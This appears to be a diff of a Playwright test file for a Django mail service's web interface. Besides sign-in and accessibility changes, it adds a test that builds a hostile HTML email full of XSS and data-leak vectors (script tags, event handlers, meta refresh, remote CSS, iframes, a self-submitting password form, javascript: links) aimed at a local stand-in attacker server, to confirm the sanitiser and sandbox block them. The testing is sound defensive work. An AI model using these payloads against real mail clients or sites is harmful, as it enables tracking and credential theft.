@@ -3,16 +3,22 @@
 import os
 import threading
 from collections.abc import Iterator
+from email.message import EmailMessage
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import urlsplit
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
+from django.conf import settings
+from django.contrib.auth.models import User
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
 from mails import keys
 from mails.models import Mail
 from mails.tests.builders import a_mail, drain
-from mails.tests.people import PASSWORD, hermes, zeus
+from mails.tests.people import PASSWORD, browser_of, hermes, zeus
+from mercury.lib import mail_html
+from mercury.lib.mail_html import Harmless
 from providers.sandbox import mailbox
 from providers.tests.builders import SandboxAccount
 
@@ -36,23 +42,23 @@ class Visitor:
     """A browser window of one person that remembers every complaint of the console and every foreign request."""
 
     def __init__(self, browser: Browser, base: str, **options) -> None:
+        self.base = base
         self.context = browser.new_context(base_url=base, **options)
         self.page: Page = self.context.new_page()
         self.complaints: list[str] = []
         self.page.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)
         self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
-        self.page.on("request", lambda request: self._watch(request.url, base))
+        self.page.on("request", lambda request: self._watch(request.url))
 
-    def sign_in(self, name: str) -> Page:
-        self.page.goto("/login/")
-        self.page.fill("#id_username", name)
-        self.page.fill("#id_password", PASSWORD)
-        self.page.click("main button[type=submit]")
-        self.page.wait_for_url("**/")
+    def sign_in(self, user: User, url: str = "/") -> Page:
+        """Go to `url` as somebody who has logged in; `test_a_mail_is_written_sent_and_watched_live` uses the form for it."""
+        session = browser_of(user).cookies[settings.SESSION_COOKIE_NAME].value
+        self.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": self.base}])
+        self.page.goto(url)
         return self.page
 
-    def _watch(self, url: str, base: str) -> None:
-        if urlsplit(url).scheme != "data" and not url.startswith(base):
+    def _watch(self, url: str) -> None:
+        if urlsplit(url).scheme != "data" and not url.startswith(self.base):
             self.complaints.append(f"request to {url}")
 
 
@@ -85,7 +91,11 @@ def write(page: Page, **fields: str) -> None:
 def test_a_mail_is_written_sent_and_watched_live(visitor, olympus, hades):
     zeus()
     hades.refuse(503)
-    page = visitor.sign_in("zeus")
+    page = visitor.page
+    page.goto("/")
+    page.fill("#id_username", "zeus")
+    page.fill("#id_password", PASSWORD)
+    page.click("main button[type=submit]")
 
     write(page)
     expect(page.get_by_text("Mail accepted.")).to_be_visible()
@@ -105,8 +115,7 @@ def test_a_mail_is_written_sent_and_watched_live(visitor, olympus, hades):
 
 
 def test_polling_pauses_and_says_so(visitor):
-    zeus()
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
     write(page)
 
     page.get_by_role("button", name="Pause").click()
@@ -117,8 +126,7 @@ def test_polling_pauses_and_says_so(visitor):
 
 
 def test_a_lost_connection_is_said_and_tried_again(visitor):
-    zeus()
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
     write(page)
 
     page.route("**/timeline*", lambda route: route.abort())
@@ -130,8 +138,7 @@ def test_a_lost_connection_is_said_and_tried_again(visitor):
 
 
 def test_errors_lead_to_their_fields_and_keep_what_was_typed(visitor):
-    zeus()
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
 
     write(page, recipient="hera@olimpus", content="Precious words")
 
@@ -145,8 +152,7 @@ def test_errors_lead_to_their_fields_and_keep_what_was_typed(visitor):
 
 
 def test_the_form_is_shown_as_code(visitor):
-    zeus()
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
 
     page.fill("#id_subject", 'Zeus\' "bolt"')
 
@@ -154,8 +160,7 @@ def test_the_form_is_shown_as_code(visitor):
 
 
 def test_tabs_go_by_arrow_keys(visitor):
-    zeus()
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
 
     page.get_by_role("tab", name="curl").focus()
     page.keyboard.press("ArrowRight")
@@ -166,11 +171,9 @@ def test_tabs_go_by_arrow_keys(visitor):
 
 
 def test_lists_go_by_keys_that_can_be_switched_off(visitor):
-    hermes()
     a_mail(subject="First")
     a_mail(subject="Second")
-    page = visitor.sign_in("hermes")
-    page.goto("/admin/mails/mail/")
+    page = visitor.sign_in(hermes(), "/admin/mails/mail/")
 
     page.keyboard.press("j")
     page.keyboard.press("j")
@@ -188,11 +191,9 @@ def test_lists_go_by_keys_that_can_be_switched_off(visitor):
 
 
 def test_times_switch_to_the_viewers_zone(chromium, live_server, olympus):
-    hermes()
     mail = a_mail()
     visitor = Visitor(chromium, live_server.url, timezone_id="Asia/Tokyo")
-    page = visitor.sign_in("hermes")
-    page.goto(f"/mails/{mail.pk}")
+    page = visitor.sign_in(hermes(), f"/mails/{mail.pk}")
 
     accepted = page.locator("#facts time[data-moment]")
     expect(accepted).to_contain_text("UTC")
@@ -204,9 +205,8 @@ def test_times_switch_to_the_viewers_zone(chromium, live_server, olympus):
 
 
 def test_everything_works_without_script(chromium, live_server, olympus):
-    zeus()
     visitor = Visitor(chromium, live_server.url, java_script_enabled=False)
-    page = visitor.sign_in("zeus")
+    page = visitor.sign_in(zeus())
 
     write(page)
     expect(page.locator("#state")).to_have_text("Queued")
@@ -218,9 +218,95 @@ def test_everything_works_without_script(chromium, live_server, olympus):
     visitor.context.close()
 
 
-def urls(olympus: SandboxAccount) -> list[str]:
+class Evil(BaseHTTPRequestHandler):
+    """A host that a hostile mail wants to reach; it remembers what it was asked for."""
+
+    asked: list[str] = []
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *arguments) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def evil() -> Iterator[str]:
+    Evil.asked.clear()
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+def hostile(evil: str) -> str:
+    """The address of a kept mail that tries everything."""
+    message = EmailMessage()
+    message["Subject"] = "<script>document.title = 'taken'</script>"
+    message.set_content("Hi")
+    message.add_alternative(
+        f"""<html><head><meta http-equiv="refresh" content="0;url={evil}/refresh"><base href="{evil}/">
+        <link rel="stylesheet" href="{evil}/link.css"><style>@import "{evil}/import.css";</style></head>
+        <body onload="top.document.title = 'taken'">
+        <script>top.document.title = 'taken'; fetch("{evil}/fetch")</script><script src="{evil}/script.js"></script>
+        <img id="pixel" src="{evil}/pixel.png" onerror="alert(1)"><img srcset="{evil}/set.png 2x">
+        <p style="background: url({evil}/style.png)">Hi</p><svg onload="alert(1)"></svg>
+        <iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object><video poster="{evil}/poster"></video>
+        <form action="{evil}/form"><input name="password" autofocus onfocus="this.form.submit()"><button>Win</button></form>
+        <a href="{evil}/link" target="_top">Win</a><a href="javascript:alert(1)">Win too</a></body></html>""",
+        subtype="html",
+    )
+    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="page.html")
+    return f"/admin/sandbox/olympus/{mailbox.keep('olympus', message.as_bytes())}/"
+
+
+@pytest.mark.parametrize("fences", ["all", "without the cleaner"])
+def test_a_hostile_mail_does_nothing(visitor, evil, fences, monkeypatch):
+    if fences == "without the cleaner":
+        monkeypatch.setattr(mail_html, "clean", lambda html, **_options: Harmless(html, 0))
+    page = visitor.sign_in(hermes(), hostile(evil))
+    title = page.title()
+
+    frame = page.frame_locator(".mail-frame")
+    frame.get_by_text("Win", exact=True).last.click()
+    page.get_by_role("tab", name="Source").click()
+    expect(page.locator("#message-source")).to_contain_text("onerror")
+    assert page.title() == title
+    page.goto(page.url.partition("#")[0] + "html")
+    if fences == "all":  # what opens alone has no frame around it: the cleaner alone keeps its links from leading away
+        page.get_by_text("Win", exact=True).last.click()
+    page.reload()
+
+    assert Evil.asked == []
+    assert page.url.endswith("/html")
+    assert len(visitor.context.pages) == 1
+    refused = [line for line in visitor.complaints if "Content Security Policy" in line or "sandbox" in line]
+    assert [line for line in visitor.complaints if line not in refused and evil not in line] == []
+    visitor.complaints.clear()  # the browser itself reports what it refused
+
+
+def test_remote_images_load_when_somebody_asks_for_them(visitor, evil):
+    page = visitor.sign_in(hermes(), hostile(evil))
+
+    with page.expect_request(f"{evil}/pixel.png"):
+        page.get_by_role("link", name="Show them all the same").click()
+
+    page.wait_for_load_state("networkidle")
+    expect(page.get_by_text("Remote images are on")).to_be_visible()
+    asked = {"/pixel.png", "/style.png"}
+    assert set(Evil.asked) == asked
+    assert {line for line in visitor.complaints if "request" in line} == {f"request to {evil}{path}" for path in asked}
+    visitor.complaints.clear()  # it left because it was asked for
+
+
+def urls(olympus: SandboxAccount, operator: User) -> list[str]:
     """Every page of ours, with what it needs to show."""
-    operator = hermes()
     key, _text = keys.create("accounts", scopes=["mails:send"], senders=["zeus@olimpus.com"])
     sent = a_mail()
     drained_beside()
@@ -260,12 +346,12 @@ def urls(olympus: SandboxAccount) -> list[str]:
     ]
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_every_page_is_accessible_and_fits_a_phone(chromium, live_server, olympus, scheme):
-    pages = urls(olympus)
-    visitor = Visitor(chromium, live_server.url, color_scheme=scheme)
+def test_every_page_is_accessible_and_fits_a_phone(chromium, live_server, olympus):
+    operator = hermes()
+    pages = urls(olympus, operator)
+    visitor = Visitor(chromium, live_server.url)
     found = _faults(visitor, "/login/")
-    visitor.sign_in("hermes")
+    visitor.sign_in(operator)
 
     for url in pages:
         found += _faults(visitor, url)
@@ -277,13 +363,21 @@ def test_every_page_is_accessible_and_fits_a_phone(chromium, live_server, olympu
 def _faults(visitor: Visitor, url: str) -> list[str]:
     page = visitor.page
     page.set_viewport_size({"width": 1380, "height": 900})
+    page.emulate_media(color_scheme="light", reduced_motion="reduce")  # nothing is caught between two colours
     page.goto(url)
     complaints = [f"{url}: {line}" for line in visitor.complaints if "404" not in line]
-    complaints += [f"{url}: {one['id']} {one['nodes'][0]['target']}" for one in Axe().run(page).response["violations"]]
+    complaints += [f"{url}: {words}" for words in _axe(page)]
+    page.emulate_media(color_scheme="dark")
+    complaints += [f"{url}, dark: {words}" for words in _axe(page, runOnly=["color-contrast", "link-in-text-block"])]
     visitor.complaints.clear()  # axe tries to add styles of its own, which the policy refuses
-    for width in (320, 390, 690):  # 690: 1380 at 200 %
+    for width in (320, 690):  # 690: 1380 at 200 %
         page.set_viewport_size({"width": width, "height": 800})
         needed = page.evaluate("document.documentElement.scrollWidth")
         if needed > width:
             complaints.append(f"{url}: needs {needed} of {width} px")
     return complaints
+
+
+def _axe(page: Page, **options) -> list[str]:
+    violations = Axe().run(page, options={"resultTypes": ["violations"], **options}).response["violations"]
+    return [f"{one['id']} {one['nodes'][0]['target']}" for one in violations]
